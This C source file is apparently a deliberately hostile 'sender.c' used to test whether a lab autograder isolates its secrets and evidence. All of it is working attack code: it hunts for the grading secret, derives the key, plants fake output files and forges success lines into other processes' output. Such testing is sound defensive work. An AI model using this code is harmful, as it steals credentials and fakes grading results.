/* SPDX-License-Identifier: MIT */
/*
 * evidence.c - a hostile "sender.c": it steals the grading secret and
 * forges the receiver's evidence instead of sending anything.
 *
 * What it tries:
 *   - the key: it reads any grading secret it can find (/tmp/grade-secret,
 *     every regular file under /tmp, 4 levels deep, whose name holds
 *     "secret", ~/.lab3-secret, every file in /var/lib/lab3), derives
 *     the key for its ID as the receiver does (server/secret.c: the file
 *     is 64 hex digits, the secret their 32 bytes, the key
 *     HMAC-SHA256(secret, ID) over the ID's bytes without a NUL) and
 *     prints "secret key: HEX";
 *   - the saved file: it copies its FILE to /tmp/grade-out/ID/NAME and to
 *     ID/NAME in every directory under /tmp (3 levels) named grade-out*
 *     or out, where a receiver's -o might be;
 *   - the receiver's summary line: it writes "session 1 from ...: id ID,
 *     SIZE bytes, verdict good, key sent, saved as ID/NAME, 0.01 s" into
 *     every FIFO under /tmp (3 levels), into /proc/PID/fd/1 of every
 *     other process it can open, and on its own stdout.
 * It exits 0.  The ID is "student" without -i.
 *
 * What the grader must do: keep the secret, the receiver's output
 * directory and its output out of the sender's reach (another user, a
 * private /tmp, its own PID namespace), and judge only from that
 * evidence.  Score 0, and no key it printed may be the real one.
 *
 * Bounds: at most 1 GiB written in all; walks of /tmp stop at 10 s and
 * 200000 entries; no symbolic link is followed, regular files are opened
 * O_NOFOLLOW and appended to (never truncated) unless created here, block
 * devices and non-terminal character devices are never written, every
 * open of a FIFO or a descriptor is O_NONBLOCK.  An ID holding '/' is
 * replaced by "student", so nothing is written outside those directories.
 *
 * Compiles alone (cc ... -lcrypto) and as the kit's sender.c: every name
 * but main() is static, and it uses no RDMA.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/hmac.h>

#define MAX_BYTES (1LL << 30)	/* all this program may write */
#define MAX_FOUND 256

/* ---- The command line ---- */

struct args {
	const char *id;
	const char *ip, *port, *file;
};

/* parse_args: the reference sender's command line, [-i ID] [-t SECONDS]
 * [other options] IP PORT FILE; unknown options are ignored, and the
 * last three arguments left are taken when there are three. */
static void parse_args(int argc, char **argv, struct args *a)
{
	int c;

	a->id = "student";
	a->ip = a->port = a->file = NULL;
	opterr = 0;
	while ((c = getopt(argc, argv, "i:t:n:w:s:o:l:qvjh")) != -1)
		if (c == 'i')
			a->id = optarg;
	if (argc - optind >= 3) {
		a->ip = argv[argc - 3];
		a->port = argv[argc - 2];
		a->file = argv[argc - 1];
	}
	if (a->id[0] == '\0' || strchr(a->id, '/') != NULL ||
	    strcmp(a->id, ".") == 0 || strcmp(a->id, "..") == 0)
		a->id = "student";
}

/* ---- A bounded walk ---- */

struct walk {
	int max_depth;		/* levels of entries below the root */
	long entries, max_entries;
	double deadline;	/* CLOCK_MONOTONIC seconds */
	void (*visit)(const char *path, const char *name,
		      const struct stat *st, int depth);
};

/* now: CLOCK_MONOTONIC in seconds. */
static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* walk_dir: visit every entry under DIR (DEPTH levels down already),
 * following no symbolic link, until W's bounds are reached. */
static void walk_dir(struct walk *w, const char *dir, int depth)
{
	char path[PATH_MAX];
	struct dirent *e;
	struct stat st;
	size_t len = strlen(dir);
	DIR *d;

	if (depth >= w->max_depth)
		return;
	d = opendir(dir);
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (w->entries >= w->max_entries || now() > w->deadline)
			break;
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		w->entries++;
		if (snprintf(path, sizeof(path), "%s%s%s", dir,
			     len > 0 && dir[len - 1] == '/' ? "" : "/",
			     e->d_name) >= (int)sizeof(path) ||
		    lstat(path, &st) != 0)
			continue;
		w->visit(path, e->d_name, &st, depth);
		if (S_ISDIR(st.st_mode))
			walk_dir(w, path, depth + 1);
	}
	closedir(d);
}

/* ---- What the walk of /tmp finds ---- */

static char *secrets[MAX_FOUND], *out_dirs[MAX_FOUND], *fifos[MAX_FOUND];
static int n_secrets, n_out_dirs, n_fifos;
static long long bytes_written;

/* keep: PATH, copied, at the end of LIST (of *N), if there is room. */
static void keep(char **list, int *n, const char *path)
{
	if (*n < MAX_FOUND && (list[*n] = strdup(path)) != NULL)
		(*n)++;
}

/* visit_tmp: a walk's visit under /tmp: secrets (4 levels), output
 * directories and FIFOs (3 levels). */
static void visit_tmp(const char *path, const char *name,
		      const struct stat *st, int depth)
{
	if (S_ISREG(st->st_mode) && strstr(name, "secret") != NULL)
		keep(secrets, &n_secrets, path);
	if (depth >= 3)
		return;
	if (S_ISDIR(st->st_mode) && (strncmp(name, "grade-out", 9) == 0 ||
				     strcmp(name, "out") == 0))
		keep(out_dirs, &n_out_dirs, path);
	if (S_ISFIFO(st->st_mode))
		keep(fifos, &n_fifos, path);
}

/* ---- The key ---- */

/* hex_value: the value of the hex digit C, or -1. */
static int hex_value(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

/* try_secret: if PATH is a secret file (64 hex digits first), print the
 * key it gives ID, as the receiver derives it. */
static void try_secret(const char *path, const char *id)
{
	unsigned char secret[32], key[EVP_MAX_MD_SIZE];
	unsigned int key_len = 0, i;
	char buf[128];
	struct stat st;
	ssize_t n;
	int fd;

	fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
		close(fd);
		return;
	}
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n < 64)
		return;
	for (i = 0; i < 32; i++) {
		int hi = hex_value(buf[2 * i]), lo = hex_value(buf[2 * i + 1]);

		if (hi < 0 || lo < 0)
			return;
		secret[i] = (unsigned char)(hi << 4 | lo);
	}
	if (HMAC(EVP_sha256(), secret, (int)sizeof(secret),
		 (const unsigned char *)id, strlen(id),
		 key, &key_len) == NULL || key_len != 32)
		return;
	fprintf(stderr, "evidence: a secret in %s\n", path);
	printf("secret key: ");
	for (i = 0; i < key_len; i++)
		printf("%02x", key[i]);
	printf("\n");
	fflush(stdout);
}

/* home: the home directory, or NULL. */
static const char *home(void)
{
	const char *h = getenv("HOME");
	struct passwd *pw;

	if (h != NULL && h[0] != '\0')
		return h;
	pw = getpwuid(getuid());
	return pw != NULL ? pw->pw_dir : NULL;
}

/* steal_key: every place a grading secret might be. */
static void steal_key(const char *id)
{
	char path[PATH_MAX];
	struct dirent *e;
	const char *h = home();
	DIR *d;
	int i;

	try_secret("/tmp/grade-secret", id);
	for (i = 0; i < n_secrets; i++)
		if (strcmp(secrets[i], "/tmp/grade-secret") != 0)
			try_secret(secrets[i], id);
	if (h != NULL) {
		snprintf(path, sizeof(path), "%s/.lab3-secret", h);
		try_secret(path, id);
	}
	d = opendir("/var/lib/lab3");
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/var/lib/lab3/%s", e->d_name);
		try_secret(path, id);
	}
	closedir(d);
}

/* ---- The saved file ---- */

/* mkdir_p: make DIR and its parents (mode 0755); errors are found when
 * the file is created. */
static void mkdir_p(const char *dir)
{
	char path[PATH_MAX], *p;

	snprintf(path, sizeof(path), "%s", dir);
	for (p = path + 1; *p != '\0'; p++) {
		if (*p != '/')
			continue;
		*p = '\0';
		mkdir(path, 0755);
		*p = '/';
	}
	mkdir(path, 0755);
}

/* copy_file: FILE copied to DIR/ID/NAME, within the bound on bytes. */
static void copy_file(const char *file, const char *dir, const char *id,
		      const char *name)
{
	static char buf[1 << 20];
	char sub[PATH_MAX], dst[PATH_MAX];
	int in, out;
	ssize_t n;

	snprintf(sub, sizeof(sub), "%s/%s", dir, id);
	if (snprintf(dst, sizeof(dst), "%s/%s", sub, name) >=
	    (int)sizeof(dst))
		return;
	mkdir_p(sub);
	in = open(file, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (in < 0)
		return;
	out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC,
		   0644);
	if (out < 0) {
		fprintf(stderr, "evidence: cannot write %s: %s\n", dst,
			strerror(errno));
		close(in);
		return;
	}
	while (bytes_written < MAX_BYTES &&
	       (n = read(in, buf, sizeof(buf))) > 0) {
		if (n > MAX_BYTES - bytes_written)
			n = (ssize_t)(MAX_BYTES - bytes_written);
		if (write(out, buf, (size_t)n) != n)
			break;
		bytes_written += n;
	}
	close(out);
	close(in);
	fprintf(stderr, "evidence: wrote %s\n", dst);
}

/* plant_files: FILE where a receiver's -o might be. */
static void plant_files(const struct args *a)
{
	const char *name;
	int i;

	if (a->file == NULL)
		return;
	name = strrchr(a->file, '/');
	name = name != NULL ? name + 1 : a->file;
	if (name[0] == '\0' || strcmp(name, "..") == 0)
		return;
	copy_file(a->file, "/tmp/grade-out", a->id, name);
	for (i = 0; i < n_out_dirs; i++)
		if (strcmp(out_dirs[i], "/tmp/grade-out") != 0)
			copy_file(a->file, out_dirs[i], a->id, name);
}

/* ---- The summary line ---- */

/* write_line: LINE into the FIFO, pipe, terminal or file at PATH. */
static void write_line(const char *path, const char *line)
{
	struct stat st;
	int fd;

	if (stat(path, &st) != 0 || S_ISBLK(st.st_mode) ||
	    S_ISDIR(st.st_mode) || S_ISSOCK(st.st_mode))
		return;
	if (S_ISCHR(st.st_mode)) {
		unsigned int m = major(st.st_rdev);

		if (!(m == 4 || m == 5 || (m >= 136 && m <= 143) || m == 229))
			return;	/* only terminals */
	}
	fd = open(path, O_WRONLY | O_APPEND | O_NOCTTY | O_NONBLOCK |
		  O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, line, strlen(line)) > 0)
		fprintf(stderr, "evidence: summary line into %s\n", path);
	close(fd);
}

/* forge_summary: the receiver's summary line for a good session, into
 * every FIFO found, the stdout of every other process and our own. */
static void forge_summary(const struct args *a)
{
	char line[1024], path[64];
	const char *name = "file";
	long long size = 0;
	long self = (long)getpid();
	struct dirent *p;
	struct stat st;
	DIR *proc;
	int i;

	if (a->file != NULL) {
		name = strrchr(a->file, '/');
		name = name != NULL ? name + 1 : a->file;
		if (stat(a->file, &st) == 0)
			size = (long long)st.st_size;
	}
	snprintf(line, sizeof(line), "session 1 from 198.18.0.1: id %s, "
		 "%lld bytes, verdict good, key sent, saved as %s/%s, "
		 "0.01 s\n", a->id, size, a->id, name);
	for (i = 0; i < n_fifos; i++)
		write_line(fifos[i], line);
	proc = opendir("/proc");
	if (proc != NULL) {
		while ((p = readdir(proc)) != NULL) {
			char *end;
			long pid = strtol(p->d_name, &end, 10);

			if (*end != '\0' || pid <= 0 || pid == self)
				continue;
			snprintf(path, sizeof(path), "/proc/%ld/fd/1", pid);
			write_line(path, line);
		}
		closedir(proc);
	}
	fputs(line, stdout);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct walk w = {
		.max_depth = 4, .max_entries = 200000, .visit = visit_tmp,
	};
	struct args a;

	parse_args(argc, argv, &a);
	signal(SIGPIPE, SIG_IGN);
	w.deadline = now() + 10;
	walk_dir(&w, "/tmp", 0);
	steal_key(a.id);
	plant_files(&a);
	forge_summary(&a);
	return 0;
}
